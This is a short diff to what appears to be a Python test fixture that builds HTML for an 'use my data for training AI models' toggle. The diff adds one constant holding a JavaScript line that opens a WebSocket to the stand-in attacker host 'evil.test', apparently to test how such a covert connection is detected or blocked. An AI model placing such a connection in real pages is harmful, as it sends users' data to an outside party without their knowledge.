@@ -15,6 +15,7 @@ SWITCH = (
     "<main><h1>AI</h1><span>Use my data for training content creation AI models</span>"
     f"<input type=checkbox role=switch aria-labelledby={SETTING.key} checked></main>"
 )
+SOCKET = "new WebSocket('wss://{tag}.evil.test/');"
 
 
 def page(script="", more=""):
